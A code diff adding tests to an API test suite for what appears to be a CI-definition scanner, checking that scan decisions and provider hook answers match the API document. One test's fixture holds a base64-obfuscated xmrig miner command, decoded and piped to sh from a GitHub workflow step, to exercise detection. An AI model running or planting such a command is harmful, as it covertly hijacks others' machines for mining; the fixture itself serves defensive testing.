@@ -1,8 +1,10 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { Compile } from 'typebox/compile';
+import { ACTIONS } from '../model/action.ts';
+import { PROVIDERS } from '../providers/registry.ts';
 import { createApi } from './api.ts';
-import { admin, createWorld, event, jobEvent } from './api-world.test.ts';
+import { admin, createWorld, event, hookPath, jobEvent } from './api-world.test.ts';
 
 type Json = { readonly [key: string]: Json } & readonly Json[] & string;
 
@@ -114,6 +116,59 @@ test('what the server answers is what the document says', async () => {
     const shape = Compile(answerSchema(path, method, answer.statusCode));
     assert.deepEqual(shape.Errors(answer.json()), [], `${method} ${path} ${answer.statusCode}`);
     assert.ok(!shape.Check('nothing of the kind'));
+  }
+});
+
+test('a decision with findings in what is encoded and in other files is what it says', async () => {
+  const mine = 'xmrig -o stratum+tcp://pool.example.org:3333';
+  const hidden = `echo ${Buffer.from(mine).toString('base64')} | base64 -d | sh\n`;
+  const steps = '    steps:\n      - run: sh ./mine.sh\n';
+  const workflow = `on: push\njobs:\n  a:\n    runs-on: x\n${steps}`;
+  const path = '.github/workflows/a.yml';
+  const script = { path: 'mine.sh', text: hidden };
+  const definitions = [
+    { dialect: 'shell', files: [script] },
+    { dialect: 'github', files: [{ path, text: workflow }, script] },
+    { dialect: 'shell', files: [script, { path, text: workflow }] },
+  ];
+  const seen = new Set<string>();
+  for (const [i, definition] of definitions.entries()) {
+    const payload = jobEvent(`scanned-${i}`, { data: { project: 'p', definition } });
+    const ask = { method: 'POST', url: '/v1/decisions', headers: admin, payload } as const;
+    const decided = (await api.inject(ask)).json();
+    const shape = Compile(answerSchema('/v1/decisions', 'post', 200));
+    assert.deepEqual(shape.Errors(decided), []);
+    const url = `/v1/decisions/${decided.id}`;
+    const record = (await api.inject({ url, headers: admin })).json();
+    const whole = Compile(answerSchema('/v1/decisions/{id}', 'get', 200));
+    assert.deepEqual(whole.Errors(record), []);
+    for (const name of decided.findings.flatMap(Object.keys)) seen.add(name);
+    for (const name of Object.keys(record.scan)) seen.add(`scan.${name}`);
+  }
+  for (const name of ['encodedAt', 'via', 'scan.via']) assert.ok(seen.has(name), name);
+});
+
+test('what any hook of a provider answers is what the document says', async () => {
+  const hooks = PROVIDERS.flatMap((provider) => Object.values(provider.hooks));
+  assert.ok(hooks.length > 0);
+  for (const status of [200, 406]) {
+    const shape = Compile(answerSchema(hookPath, 'post', status));
+    for (const hook of hooks) {
+      for (const action of ACTIONS) {
+        const { body } = hook.answer(action, 'dec_1');
+        assert.deepEqual(shape.Errors(JSON.parse(body)), []);
+      }
+      assert.ok(!shape.Check({}));
+    }
+  }
+});
+
+test('an address that cannot be decoded is documented where there can be one', async () => {
+  for (const [path, methods] of Object.entries(document['paths'] ?? {})) {
+    if (!path.includes('{')) continue;
+    for (const operation of Object.values(methods)) {
+      assert.ok(operation['responses']?.['400'], path);
+    }
   }
 });
 
